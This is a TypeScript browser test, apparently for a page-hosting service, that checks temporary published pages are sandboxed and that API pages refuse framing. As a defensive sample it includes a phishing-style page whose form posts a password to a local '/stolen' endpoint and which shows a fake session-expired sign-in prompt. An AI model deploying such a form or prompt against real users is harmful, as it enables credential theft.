import http from 'node:http';
import type { AddressInfo } from 'node:net';
import puppeteer, { type Browser, type Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumPath } from '../../support/chromium.js';
import { newClientIp } from '../../support/forms-api.js';
import { startHostplane, type TestHostplane } from '../../support/hostplane.js';

// In Debian's real Chromium: a temporary page (anonymous HTML on the console's origin) cannot
// submit a form or open a window, and no page of the API host can be framed by another site.

describe('framing and temporary pages in a real browser', () => {
  let hp: TestHostplane;
  let browser: Browser;
  /** Another origin: records what reaches it and serves a page that frames `?src=`. */
  let other: http.Server;
  let otherOrigin: string;
  const reached: string[] = [];

  beforeAll(async () => {
    hp = await startHostplane('pglite+fs');
    other = http.createServer((req, res) => {
      const url = new URL(req.url ?? '/', 'http://x');
      if (url.pathname === '/frame') {
        const src = url.searchParams.get('src') ?? '';
        res.writeHead(200, { 'content-type': 'text/html' });
        return void res.end(`<!doctype html><title>framer</title><iframe src="${src}"></iframe>`);
      }
      reached.push(`${req.method} ${url.pathname}`);
      res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('ok');
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
    browser = await puppeteer.launch({
      executablePath: chromiumPath(),
      headless: true,
      args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'],
    });
  });
  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => other?.close(resolve));
    await hp?.stop();
  });

  /** The page's console messages, as they come, and a wait for one that matches. */
  function consoleOf(page: Page) {
    const messages: string[] = [];
    const waiters: Array<{ pattern: RegExp; resolve: (m: string) => void }> = [];
    page.on('console', (msg) => {
      const text = msg.text();
      messages.push(text);
      for (const w of waiters.splice(0)) {
        if (w.pattern.test(text)) w.resolve(text);
        else waiters.push(w);
      }
    });
    return {
      messages,
      waitFor: (pattern: RegExp) =>
        new Promise<string>((resolve) => {
          const seen = messages.find((m) => pattern.test(m));
          if (seen) resolve(seen);
          else waiters.push({ pattern, resolve });
        }),
    };
  }

  const publish = async (html: string) => {
    const res = await hp.request('/ai/publish', {
      method: 'POST',
      json: { html },
      headers: { 'x-forwarded-for': newClientIp() },
    });
    expect(res.status).toBe(200);
    return `${hp.url.replace('127.0.0.1', 'localhost')}${new URL(((await res.json()) as { url: string }).url).pathname}`;
  };

  it('a temporary page cannot submit a form, open a window or show a dialog; its scripts still run', async () => {
    const url = await publish(`<!doctype html><html><body>
<form id="f" method="post" action="${otherOrigin}/stolen"><input name="password" value="hunter2"><button id="go">Sign in</button></form>
<output id="result"></output>
<script>
  const popup = window.open('${otherOrigin}/popup');
  let dialog = 'blocked';
  try { if (window.confirm('Your session expired. Sign in again?') !== false) dialog = 'shown'; } catch { }
  document.getElementById('result').textContent = JSON.stringify({ script: 'ran', popup: popup === null ? 'blocked' : 'opened', dialog });
</script></body></html>`);
    const page = await browser.newPage();
    const log = consoleOf(page);
    let dialogs = 0;
    page.on('dialog', (d) => {
      dialogs += 1;
      void d.accept();
    });
    await page.goto(url);
    const result = JSON.parse(await page.$eval('#result', (e) => e.textContent ?? '')) as Record<
      string,
      string
    >;
    expect(result).toEqual({ script: 'ran', popup: 'blocked', dialog: 'blocked' });
    expect(dialogs).toBe(0);
    await log.waitFor(/Blocked opening .* in a new window/);

    // A click on the form's button: Chromium refuses the submission (the sandbox has no allow-forms).
    await page.click('#go');
    await log.waitFor(/Blocked form submission|form-action/);
    // The page is still there, and the other origin saw neither the form nor the pop-up: a fetch
    // sent after them (CORS-open, so it reaches the server) is the first and only thing to arrive.
    expect(page.url()).toBe(url);
    await page.evaluate((u) => fetch(u).then((r) => r.text()), `${otherOrigin}/after`);
    expect(reached).toEqual(['GET /after']);
    await page.close();
  });

  it('no page of the API host can be framed by another site', async () => {
    const temporary = await publish('<!doctype html><h1>framed?</h1>');
    const api = hp.url.replace('127.0.0.1', 'localhost');
    for (const target of [`${api}/`, `${api}/docs`, `${api}/console`, temporary, `${api}/demo/view/nope`]) {
      const page = await browser.newPage();
      const log = consoleOf(page);
      await page.goto(`${otherOrigin}/frame?src=${encodeURIComponent(target)}`);
      // Chromium says so in the framing page's console (CSP wins over X-Frame-Options when both are sent).
      await log.waitFor(/Framing .* violates .*frame-ancestors 'none'|Refused to (frame|display)/);
      const frame = page.frames().find((f) => f !== page.mainFrame());
      // The frame shows the browser's error page, never the API host's.
      expect(frame?.url() ?? '', target).not.toBe(target);
      await page.close();
    }
  });
});
